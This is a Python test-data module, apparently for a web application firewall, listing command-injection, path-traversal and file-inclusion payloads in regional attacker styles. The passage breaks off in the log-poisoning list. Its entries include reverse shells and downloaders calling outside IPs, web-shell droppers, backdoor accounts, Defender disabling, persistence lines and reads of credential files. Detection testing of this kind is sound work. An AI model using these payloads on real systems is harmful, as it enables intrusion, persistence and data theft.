"""Blind set "hundredeightyfirst": OS command injection, local file inclusion / path traversal and remote file
inclusion the way attacker communities around the world write and share them, with benign requests in which the
same languages, scripts and syntax appear innocently.

The angle: payloads as Chinese, Russian, Brazilian, Indonesian, Turkish, Iranian and Vietnamese forums and tool
habits write them, recalled from memory. Chinese CTF filter bypasses (${IFS}$9, {cat,flag}, ....// for a
str_replace filter, dnslog.cn and ceye.io out-of-band checks, the ASP/PHP one-line web shell, certutil, opening
3389), Russian Mirai-style BusyBox loaders and r57/WSO shells, Brazilian and Indonesian defacement and web-shell
droppers (c99, b374k, IndoXploit), Iranian Alfa shells, Vietnamese Windows/IIS habits; charset tricks the target
decodes (overlong UTF-8 on the wire, IIS %u, UTF-7, full-width and two-dot-leader characters an NFKC-normalising
app folds, JSON \\u escapes, double encoding); comments, markers and variable names in the attacker's own language
(Cyrillic and CJK PowerShell variables, localised Windows group names, native text after a NUL byte, after a "?"
of a remote URL or after a "#" shell comment, where it does not break the attack); localised parameter names
(arquivo, halaman, sayfa, ...) and regional products (BT panel, phpStudy, LNMP, ThinkPHP, Discuz!, DedeCMS,
PHPCMS, ECShop, Tongda OA, Seeyon, Weaver, Yonyou, FineReport, Sangfor, Ruijie, Hikvision, 1C-Bitrix, DataLife
Engine, MODX, Lokomedia, GPON home gateways, Zyxel). Each group of payloads carries a comment naming its family,
community style and target (shell, cmd.exe, PowerShell, PHP include, IIS, Tomcat, product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Shellshock payloads turn mostly through headers and cookies.
Payloads written as the attacker types them on the wire (`file=..%c0%af..%c0%afetc/passwd`, localised parameter
names, product exploit parameters) go as raw `name=value` query strings, form bodies and parameter names; whole
JSON documents (JSON \\u escapes, a Zyxel request) go as the JSON body; traversal in an
upload's file name goes as the multipart file name; the Hikvision request goes as the XML document. Payloads
with non-ASCII text or control characters never go into headers, cookies or the path; NUL bytes never into XML.

Authorship and independence: written for this repository from general knowledge of each attack family and of how
these communities write payloads, as remembered, and the detection titles alone; no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no
clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredeightyfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# Payloads written as `name=value` the way they go on the wire (sent unquoted, % kept as typed)
RAW: set[str] = set()
KV_REAL = ("query", "form", "param-name")
KV_RS = ("rs-query", "rs-param-name", "rs-raw-body")


def kv(payload: str) -> Entry:
    """A raw `name=value` payload, turning through the places a raw query string or form body can take."""
    k = len(RAW)
    RAW.add(payload)
    return (payload, KV_REAL[k % len(KV_REAL)], KV_RS[k % len(KV_RS)])


def jb(doc: str) -> Entry:
    """A whole JSON document as the request body."""
    return (doc, "json-body", "rs-json-body")


def mf(filename: str) -> Entry:
    """An upload's file name."""
    return (filename, "multipart-filename", "rs-multipart-filename")


# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: separators ; | || && ` $() newline after the value a diagnostic page hands to /bin/sh
CMD_INJECTION: list[Entry] = [
    # Chinese forum style (DVWA-trained), target: /bin/sh behind PHP shell_exec("ping -c 4 ".$ip) on CentOS
    "127.0.0.1;whoami",
    "127.0.0.1|id",
    "127.0.0.1||uname -a",
    "127.0.0.1\nid",
    "127.0.0.1;id #测试命令执行",
    "$(id)",
    "`uname -a`",
    # Chinese out-of-band check on a blind page: the command's output as a dnslog.cn / ceye.io subdomain
    "127.0.0.1 | ping -c 1 `whoami`.q3k8zt.dnslog.cn",
    "1;ping -c 1 $(hostname).7f3a1c.ceye.io",
    # Russian style, target: BusyBox ash in a router/NAS CGI; Russian comment after '#'
    "8.8.8.8; id # проверка",
    "8.8.8.8 | uname -m # архитектура для бота",
    # Brazilian style (Portuguese comments), target: a home router's ping page (BusyBox ash)
    "192.168.0.1; cat /proc/cpuinfo # teste de injeção",
    # Indonesian style, target: PHP exec() in a regional government web app on Linux
    "127.0.0.1 && id # coba rce",
    # Turkish, Persian and Vietnamese comments, target: /bin/sh behind a PHP network-tools page
    "1.1.1.1; whoami #deneme",
    "127.0.0.1; id # تست",
    "127.0.0.1 | id # thử nghiệm",
    # product: Sangfor EDR (China) tool/log/c.php, host= reaches the shell
    kv("strip_slashes=system&host=id"),
    # product: Ruijie EG gateway guestIsUp.php, ip= reaches the shell
    kv("mac=1&ip=127.0.0.1|id"),
    # product: Hikvision camera CVE-2021-36260, the <language> element is run through a shell
    ('<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>', "xml", "rs-xml"),
]

# unix-shell-expression-evasion: quotes, ${IFS}, globbing, brace expansion, variables (bash/sh)
SHELL_EVASION: list[Entry] = [
    # Chinese CTF "绕过空格/关键字" bypasses, target: bash behind a PHP system() with a blacklist
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat</etc/passwd",
    ";ca''t /et''c/pa''ss''wd",
    ";c\\at /e\\tc/pa\\ss\\wd",
    ";a=c;b=at;c=/etc/pass;d=wd;$a$b $c$d",
    ";/???/c?t /???/p?ss??",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|bash",
    ";$(printf '\\x69\\x64')",
    "|$(rev<<<'imaohw')",
    ";${HOME:0:1}bin${HOME:0:1}cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";$'\\143\\141\\164' /etc/passwd",
    # transliterated variable names: pinyin, Russian, Portuguese, Indonesian, Turkish (bash)
    ";mingling=whoami;${mingling}",
    ";komanda=id;$komanda",
    ";comando=uname;$comando -a",
    ";perintah=ls;$perintah -la /",
    ";komut=whoami;$komut",
    # UTF-7 charset trick: the app runs mb_convert_encoding($ip, "UTF-8", "UTF-7") before the shell
    "127.0.0.1+ADs-id",
    "127.0.0.1+AHw-cat /etc/passwd",
]

# windows-cmd-injection: & | && || and cmd.exe obfuscation (IIS/phpStudy on Windows Server)
WINDOWS_CMD: list[Entry] = [
    # Chinese Windows-server habits: add a user, open 3389, dnslog through nslookup; target: cmd.exe
    "127.0.0.1 & whoami",
    "127.0.0.1 && net user",
    "127.0.0.1 | ipconfig /all",
    "127.0.0.1 || ver",
    "& net user heike Heike@2024 /add & net localgroup administrators heike /add",
    '& REG ADD "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections '
    "/t REG_DWORD /d 0 /f",
    "& for /f %i in ('whoami') do nslookup %i.k2p9xd.dnslog.cn",
    "| netstat -ano & rem 查看端口",
    "& w^h^o^a^m^i",
    "& set x=who&& set y=ami&& call %x%%y%",
    '& wmic process call create "cmd /c whoami > C:\\inetpub\\wwwroot\\1.txt"',
    # Russian: Cyrillic rem, the Russian Windows name of the Administrators group
    "& systeminfo & rem проверка",
    "& net user admin2 Qwerty123! /add && net localgroup Администраторы admin2 /add",
    # Brazilian and Turkish Windows: localised Administrators group names
    "& net user suporte Mudar@123 /add & net localgroup Administradores suporte /add",
    "&& net user destek Destek.2024 /add && net localgroup Yöneticiler destek /add",
    # Vietnamese and Persian rem comments
    "& tasklist & rem kiểm tra",
    "| dir C:\\inetpub\\wwwroot & rem بررسی",
]

# powershell: encoded commands, download cradles, Unicode variable names (PowerShell allows any letter)
POWERSHELL: list[Entry] = [
    # Chinese: -enc, IEX cradle from an Aliyun VPS, CJK variable name; target: powershell.exe via cmd.exe
    "| powershell -nop -w hidden -enc dwBoAG8AYQBtAGkA",
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://47.94.132.18/a.ps1')\"",
    "& powershell -c \"$命令='ipconfig'; iex $命令\"",
    '& powershell -c "whoami # 测试"',
    "& powershell -c \"Resolve-DnsName ($env:COMPUTERNAME+'.m4x7.dnslog.cn')\"",
    # Russian: Cyrillic variable, Defender tampering, TCP client reverse shell
    "& powershell -c \"$команда='whoami'; iex $команда\"",
    '& powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
    "& powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('185.244.25.108',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){"
    "$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);"
    "$o=[Text.Encoding]::ASCII.GetBytes($r+'PS> ');$s.Write($o,0,$o.Length)}\"",
    # Portuguese, Indonesian, Turkish, Persian, Vietnamese variable names
    "& powershell -c \"$comando='Get-Process'; & $comando\"",
    "& powershell -c \"$perintah='Get-LocalUser'; iex $perintah\"",
    '& powershell -c "$kullanıcı=(whoami); $kullanıcı"',
    "& powershell -c \"$دستور='hostname'; iex $دستور\"",
    "& powershell -c \"$lệnh='systeminfo'; iex $lệnh\"",
    # obfuscation shared on every forum: aliases, string concatenation, base64 UTF-16LE
    "& powershell -c \"sal x iex; x ('who'+'ami')\"",
    "& powershell -c \"iex ([Text.Encoding]::Unicode.GetString("
    "[Convert]::FromBase64String('aQBwAGMAbwBuAGYAaQBnACAALwBhAGwAbAA=')))\"",
    "& powershell -w 1 -c \"(New-Object Net.WebClient).DownloadFile('http://118.24.63.9/m.exe',"
    "'C:\\ProgramData\\m.exe')\"",
    "& powershell -ExecutionPolicy Bypass -File \\\\103.97.125.4\\share\\run.ps1",
]

# unix-command-names-with-paths: absolute binary paths (filters that look for bare command names)
UNIX_PATHS: list[Entry] = [
    # Chinese, Russian, Portuguese, Indonesian habits, target: /bin/sh behind a CGI or PHP passthru()
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    "&&/bin/uname -a",
    ";/usr/bin/whoami",
    "$(/usr/bin/id)",
    ";/bin/netstat -antp",
    # Mirai-style (Russian/Chinese botnets): BusyBox telnetd bind shell, a UID 0 backdoor user
    ";/bin/busybox telnetd -l /bin/sh -p 2323",
    ";/usr/sbin/useradd -o -u 0 -g 0 -M -N toor",
    # interpreters by path
    ";/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/perl -e 'print `id`'",
    ";/usr/bin/php -r 'system(\"id\");'",
    "|/bin/ls -la /root",
    # native-language comments after '#'
    ";/usr/bin/id #执行命令",
    ";/bin/uname -a # узнать ядро",
    "|/usr/bin/uptime # cek server",
    ";/bin/sh -c 'id;whoami' # teste",
]

# reverse-shells: bash /dev/tcp, nc, python, perl, socat, php, ruby, awk (attacker VPS in each region)
REVERSE_SHELLS: list[Entry] = [
    # Chinese "反弹shell" from Aliyun/Tencent Cloud VPSes, target: bash
    ";bash -c 'bash -i >& /dev/tcp/47.94.132.18/7777 0>&1' #反弹shell",
    ";bash -c 'bash -i >& /dev/tcp/121.40.87.5/8888 0>&1'",
    ";echo YmFzaCAtaSA+JiAvZGV2L3RjcC80NS4zMi4xMDEuNzcvNDQ0NCAwPiYx|base64 -d|bash",
    "|nc -e /bin/sh 139.155.77.21 1337",
    # Russian: named pipe with OpenBSD nc, fd 196, BusyBox nc, python
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 185.244.25.108 443 >/tmp/f",
    ";bash -c '0<&196;exec 196<>/dev/tcp/45.95.168.31/4445; sh <&196 >&196 2>&196'",
    ";busybox nc 193.106.191.44 9999 -e sh",
    ";python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"91.215.85.17\",9001));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
    # Brazilian: socat with a full pty, perl
    ";socat tcp:177.54.150.200:4443 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    ";perl -e 'use Socket;$i=\"189.6.44.10\";$p=6666;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    # Indonesian: php fsockopen, two-nc relay
    ";php -r '$sock=fsockopen(\"36.89.54.12\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    # Turkish: ruby
    ";ruby -rsocket -e'f=TCPSocket.open(\"78.186.20.3\",4242).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    # Iranian: mknod pipe, gawk /inet
    ";awk 'BEGIN{s=\"/inet/tcp/0/2.176.40.12/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    # Vietnamese: UDP over DNS port, python pty, nohup with a Vietnamese comment
    ";bash -c 'sh -i >& /dev/udp/113.161.72.5/53 0>&1'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"14.225.210.8\",443));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"bash\")'",
    ";nohup bash -c 'bash -i >& /dev/tcp/103.97.125.4/2053 0>&1' >/dev/null 2>&1 & # giữ kết nối",
    # product: Zyxel firewall CVE-2022-30525 (widespread in Turkish and Iranian SMBs), mtu reaches the shell
    jb('{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5",'
       '"mtu":"; bash -c \'exec bash -i &>/dev/tcp/95.0.12.40/443 <&1;\';","data":"hi"}'),
]

# shellshock: a function definition in an environment variable (CGI headers), target: bash < 4.3 behind CGI
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; /bin/bash -c \"wget http://45.95.168.31/bot -O /tmp/bot; chmod 777 /tmp/bot; /tmp/bot\"",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { _; } >_[$($())] { echo; /bin/id; }",
    "() { :; }; /bin/bash -c 'nslookup `whoami`.s2v8.dnslog.cn'",
    "() { :; }; /bin/bash -i >& /dev/tcp/103.147.8.22/8080 0>&1",
    "() { :; }; /usr/bin/curl -s http://121.40.87.5/t.sh | /bin/sh",
    "() { :;}; /bin/cat /etc/shadow",
    "() { :; }; /bin/bash -c \"echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+|base64 -d > /var/www/html/s.php\"",
    "() { :; }; /bin/nc -e /bin/sh 177.54.150.200 4444",
    # 破壳 is the Chinese name of the bug; Russian, Indonesian and Turkish markers
    "() { :; }; echo; /bin/bash -c 'echo 破壳漏洞存在; id'",
    "() { :; }; echo; /bin/bash -c 'echo уязвим; id'",
    "() { :; }; /bin/echo tembus_shellshock",
    "() { :; }; echo; /bin/bash -c 'echo açık var; whoami'",
]

# downloaders: curl/wget/tftp | sh, certutil/bitsadmin/mshta/regsvr32 (botnets, miners, web-shell droppers)
DOWNLOADERS: list[Entry] = [
    # Russian Mirai-style loaders, target: BusyBox routers and DVRs
    "; cd /tmp || cd /var/run; wget http://45.95.168.31/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    ";tftp -g -r mips 193.106.191.44; chmod 777 mips; ./mips zyxel",
    # Chinese mining groups: curl||wget fallback, kinsing, '下载执行' comment; target: bash on cloud VMs
    ";(curl -fsSL http://47.94.132.18/ldr.sh||wget -q -O- http://47.94.132.18/ldr.sh)|bash",
    "|curl -o /tmp/kinsing http://121.40.87.5/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing",
    ";wget http://139.155.77.21/x.sh -O- | sh #下载执行",
    # product: GPON home gateways (VNPT fibre boxes, Vietnam), dest_host of diag_Form reaches the shell
    kv("XWebPageName=diag&diag_action=ping&wan_conlist=0"
       "&dest_host=`busybox wget http://113.161.72.5/a -O ->/tmp/a;sh /tmp/a`&ipv=0"),
    # Indonesian, Brazilian, Turkish, Iranian web-shell droppers into the web root
    ";wget http://36.89.54.12/indoxploit.txt -O /var/www/html/idx.php",
    ";curl -s http://103.147.8.22/b374k.txt -o /var/www/html/b.php",
    ";wget http://177.54.150.200/c99.txt -O /var/www/html/pt.php && echo baixado",
    "|curl -sL http://78.186.20.3/sh.txt -o /var/www/html/tr.php",
    ";wget -O /var/www/html/alfa.php http://5.160.218.9/alfa.txt",
    # Windows favourites (Chinese and Vietnamese forums), target: cmd.exe on IIS
    "& certutil -urlcache -split -f http://47.94.132.18/1.exe %TEMP%\\1.exe & %TEMP%\\1.exe",
    "& bitsadmin /transfer n http://121.40.87.5/a.exe C:\\Users\\Public\\a.exe",
    "& mshta http://139.155.77.21/a.hta",
    "& regsvr32 /s /n /u /i:http://118.24.63.9/a.sct scrobj.dll",
    "& certutil -urlcache -f http://14.225.210.8/svchost.exe C:\\Windows\\Temp\\svchost.exe & rem tải về",
]

# file-write-via-shell: echo > / tee / printf writing web shells, defacements, keys and cron jobs
FILE_WRITE: list[Entry] = [
    # Chinese 一句话木马 (one-line web shell), target: PHP on the web root; ASP/ASPX one-liners for IIS via cmd
    ";echo '<?php @eval($_POST[\"cmd\"]);?>' > /var/www/html/1.php",
    ";echo PD9waHAgQGV2YWwoJF9QT1NUWydhJ10pOz8+|base64 -d > /www/wwwroot/default/a.php",
    "& echo ^<%eval request(\"pass\")%^> > C:\\inetpub\\wwwroot\\1.asp",
    "& echo ^<%@ Page Language=\"Jscript\"%^>^<%eval(Request.Item[\"pass\"],\"unsafe\");%^> > D:\\wwwroot\\x.aspx",
    ";echo '黑客到此一游' > /var/www/html/index.html",
    # defacement index pages in each community's language
    ";echo '<h1>Hacked by Garuda - Indonesia</h1>' > /var/www/html/index.html",
    ";echo '<h1>Hackeado! Brasil</h1>' > /var/www/html/index.html",
    ";echo '<h1>Bu site hacklendi</h1>' > /var/www/html/index.html",
    ";echo 'این سایت هک شد' > /var/www/html/index.html",
    ";echo 'Website đã bị hack' > /var/www/html/index.html",
    ";echo 'взломано' >> /var/www/html/index.php",
    # persistence: authorized_keys, crontab, sudoers, passwd
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9kq3Xc7mPz2hR4t1aY8wQe5NnLb0VdJx6sKf2uTQpM root@kali' "
    ">> /root/.ssh/authorized_keys",
    ";echo '* * * * * root bash -c \"bash -i >& /dev/tcp/185.244.25.108/5555 0>&1\"' >> /etc/crontab",
    ";(crontab -l;echo '*/5 * * * * curl -fsSL http://47.94.132.18/c.sh|sh')|crontab -",
    "|tee -a /etc/sudoers <<< 'www-data ALL=(ALL) NOPASSWD:ALL'",
    ";echo '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>' > /opt/tomcat/webapps/ROOT/c.jsp",
]

# restricted-file-names-in-commands: reading the files an attacker wants through the shell
RESTRICTED_IN_CMD: list[Entry] = [
    # generic and Chinese CTF readers (nl, tac, base64 when cat is banned), target: /bin/sh
    ";cat /etc/passwd",
    "|cat /etc/shadow",
    ";nl /etc/passwd",
    ";base64 /root/.ssh/id_rsa",
    ";cat /proc/self/environ",
    "|tail -n 50 /root/.bash_history",
    ";cat /etc/passwd #读取密码文件",
    ";more /etc/shadow # читаем хеши",
    # regional panels and products: BT panel (China), 1C-Bitrix (Russia), Indonesian CMS koneksi.php
    ";cat /www/server/panel/data/default.db",
    ";cat /www/server/panel/default.pl",
    ";cat /home/bitrix/www/bitrix/.settings.php",
    ";cat /var/www/html/config/koneksi.php",
    ";cat /var/www/html/wp-config.php # senha do banco",
    # Windows: type through cmd.exe
    "& type C:\\Windows\\win.ini",
    "& type C:\\inetpub\\wwwroot\\web.config",
    "| type C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal: ../ and ..\ in every encoding the target decodes (PHP include, IIS, Tomcat, Java, Python)
PATH_TRAVERSAL: list[Entry] = [
    # plain and deep, target: PHP include($_GET['file'])
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..\\/..\\/..\\/etc/passwd",
    # Chinese CTF: str_replace('../', '') applied once, PHP lexical normalisation of a missing directory
    "....//....//....//etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "测试/../../../../etc/passwd",
    # double decoding: the app urldecode()s a value the server already decoded
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    # on the wire: overlong UTF-8 (Tomcat/old Java, IIS), IIS %u, double-encoded backslash
    kv("file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    kv("file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    kv("file=..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    kv("file=..%u2216..%u2216..%u2216windows%u2216win.ini"),
    kv("page=%uff0e%uff0e%u2215%uff0e%uff0e%u2215boot.ini"),
    # full-width and two-dot-leader characters an NFKC-normalising Python/Java app folds (Chinese/Japanese IME)
    "．．／．．／．．／．．／etc／passwd",
    "‥/‥/‥/‥/etc/passwd",
    "．．＼．．＼．．＼windows＼win.ini",
    # UTF-7 decoding app, JSON \\u escapes
    "+AC4ALgAvAC4ALgAv-+AC4ALgAvAC4ALgAv-etc/passwd",
    jb('{"file":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}'),
    # Tomcat behind a proxy: the ..;/ path parameter trick (Chinese Spring/Tomcat write-ups)
    "/..;/..;/..;/WEB-INF/web.xml",
    # localised parameter names on regional PHP sites: Portuguese, Indonesian, Turkish, Vietnamese, Russian
    kv("arquivo=../../../../etc/passwd"),
    kv("halaman=../../../../etc/passwd"),
    kv("sayfa=../../../etc/passwd"),
    kv("stranica=../../../../etc/passwd"),
    # products: Seeyon A6, Yonyou NC, Weaver e-cology, Tongda OA (China)
    kv("method=doDownloadAtt&filename=test.txt&filePath=../conf/datasourceContextConfig.properties"),
    kv("service=IPreAlertConfigService&filename=../../ierp/bin/prop.xml"),
    kv("fpath=../ecology/WEB-INF/prop/weaver.properties"),
    kv('json={"url":"/general/../../mysql5/my.ini"}'),
    # traversal in an upload's file name (IIS 6 ';' parsing, Chinese classic; Linux web root)
    mf("..\\..\\..\\inetpub\\wwwroot\\1.asp;.jpg"),
    mf("../../../../var/www/html/shell.php"),
]

# os-file-access: the files an attacker reads through a traversal (system, web server, VCS, secrets, products)
OS_FILES: list[Entry] = [
    # Linux system files and /proc, target: PHP include / readfile
    "../../../../etc/shadow",
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../root/.ssh/id_rsa",
    "../../../../root/.bash_history",
    # Windows files, target: PHP/ASP.NET on IIS
    "..\\..\\..\\boot.ini",
    "../../../../windows/win.ini",
    "..\\..\\web.config",
    "..\\..\\..\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    # web server, VCS and environment files
    "../.htaccess",
    "../../.git/config",
    "../../.env",
    "../../WEB-INF/web.xml",
    # Chinese panels and CMSs: BT panel, Discuz!, DedeCMS, ThinkPHP, ECShop, FineReport
    "../../../../www/server/panel/data/default.db",
    "../../config/config_global.php",
    "../../data/common.inc.php",
    "../../application/database.php",
    kv("op=chart&cmd=get_geo_json&resourcepath=privilege.xml"),
    # Russian CMSs: 1C-Bitrix, DataLife Engine, MODX
    "../../bitrix/php_interface/dbconn.php",
    "../../engine/data/dbconfig.php",
    "../../core/config/config.inc.php",
    # Brazilian/Indonesian shared-hosting favourites: WordPress, Joomla; Lokomedia CMS (Indonesia) downlot.php
    "../../wp-config.php",
    "../configuration.php",
    kv("file=../config/koneksi.php"),
]

# absolute-paths: a full path where a relative file name is expected
ABSOLUTE_PATHS: list[Entry] = [
    # Linux, target: PHP include / Python open()
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/root/.ssh/authorized_keys",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/www/html/.env",
    "file:///etc/passwd",
    # Chinese hosting stacks: BT panel, LNMP one-click (lnmp.org)
    "/www/wwwroot/default/.user.ini",
    "/www/server/nginx/conf/nginx.conf",
    "/home/wwwroot/default/.user.ini",
    "/usr/local/nginx/conf/nginx.conf",
    # PHP lexical normalisation: a missing directory named in Chinese or Russian before the '..'
    "/测试/../etc/passwd",
    "/проверка/../etc/shadow",
    # Windows: IIS and the local stacks each region uses (phpStudy China, XAMPP, AppServ Thailand/Indonesia)
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "D:\\wwwroot\\web.config",
    "C:\\phpstudy_pro\\WWW\\config.php",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\AppServ\\www\\config.php",
    "/opt/lampp/etc/httpd.conf",
]

# null-byte/truncation: NUL, path-length truncation and dot truncation (PHP < 5.3.4, Java < 7u40, Windows)
NULL_BYTE: list[Entry] = [
    # the value as the app receives it (JSON \\u0000, form/query %00)
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "..\\..\\..\\boot.ini\x00.html",
    "../../WEB-INF/web.xml\x00.jsp",
    # native text after the NUL: ignored by the C library (Chinese, Russian, Vietnamese, Persian, Turkish)
    "../../../../etc/passwd\x00测试.jpg",
    "../../../../etc/shadow\x00фото.png",
    "../../../../etc/passwd\x00ảnh.gif",
    "../../config.php\x00تصویر.jpg",
    "../../../etc/passwd\x00resim.jpeg",
    # on the wire: %00 as typed, double-encoded %2500, Indonesian and Portuguese parameter names
    kv("page=../../../etc/passwd%00"),
    kv("file=../../../../etc/passwd%00.php"),
    kv("file=../../../../etc/passwd%2500.html"),
    kv("halaman=../../../../etc/passwd%00"),
    kv("arquivo=../../../../etc/passwd%00.txt"),
    kv("template=..%2f..%2f..%2fetc%2fpasswd%00.tpl"),
    # Chinese "长度截断": path-length truncation with ./ (PHP < 5.3 on Linux, 4096) and dots (Windows, 256)
    "../../../../etc/passwd" + "/." * 2050,
    "a/../../../../etc/passwd" + "/." * 2050,
    "..\\..\\..\\boot.ini" + "." * 260,
    "..\\..\\..\\windows\\win.ini" + " ." * 130,
    # NUL after /proc/self/environ: the .php the include appends is cut
    "../../../../../proc/self/environ\x00",
]

# php-wrapper-lfi: php://filter, php://input, zip://, phar://, compress.zlib:// (PHP include/file_get_contents)
PHP_WRAPPERS: list[Entry] = [
    # Chinese CTF staples: base64 / rot13 / iconv filters to read source
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=flag.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UCS-2LE.UCS-2BE/resource=flag.php",
    "php://filter/convert.iconv.UTF-8.UTF-7/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16le|convert.base64-encode/resource=index.php",
    "php://filter/zlib.deflate|convert.base64-encode/resource=/etc/passwd",
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "PHP://FILTER/read=convert.base64-encode/resource=index.php",
    # Chinese CTF: the check wants a keyword in the path; PHP normalises the missing directory away
    "php://filter/read=convert.base64-encode/resource=index/../flag.php",
    "php://filter/convert.base64-encode/resource=测试/../../config.php",
    # Chinese CMSs and frameworks: ThinkPHP, Discuz!, PHPCMS, ECShop, DedeCMS
    "php://filter/read=convert.base64-encode/resource=application/database.php",
    "php://filter/read=convert.base64-encode/resource=../../config/config_global.php",
    "php://filter/read=convert.base64-encode/resource=caches/configs/database.php",
    "php://filter/read=convert.base64-encode/resource=data/config.php",
    # Russian DLE, Indonesian koneksi.php, WordPress everywhere
    "php://filter/read=convert.base64-encode/resource=engine/data/dbconfig.php",
    "php://filter/convert.base64-encode/resource=../config/koneksi.php",
    "php://filter/read=convert.base64-encode/resource=wp-config.php",
    # php://input (code in the POST body), zip:// and phar:// on an uploaded "image", compress.zlib://
    "php://input",
    "zip://uploads/avatar.jpg#shell.php",
    "zip:///var/www/html/upload/1.png#x.php",
    "phar://./upload/1.gif/shell.php",
    "compress.zlib:///etc/passwd",
    "compress.zlib://php://filter/read=convert.base64-encode/resource=index.php",
]

# log-poisoning-targets: log, session and mail files an attacker first writes PHP into, then includes
LOG_POISONING: list[Entry] = [
    # Debian/Ubuntu and CentOS defaults, target: PHP include
    "../../../../var/log/apache2/access.log",
    "../../../../../var/log/apache2/error.log",
    "/var/log/httpd/access_log",
    "/var/log/nginx/access.log",
    "../../../../var/log/auth.log",
    "/var/log/vsftpd.log",
    "../../../../var/mail/www-data",
    "/proc/self/fd/2",
    # PHP session files (poisoned through a profile field)
    "/var/lib/php/sessions/sess_9f3c2b1a7d6e5f4a3b2c1d0e9f8a7b6c",
    "/tmp/sess_8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d",
    # Chinese stacks: BT panel logs, LNMP logs, phpStudy on Windows
    "/www/wwwlogs/access.log",
    "../../../../www/wwwlogs/default.log",
    "/home/wwwlogs/access.log",
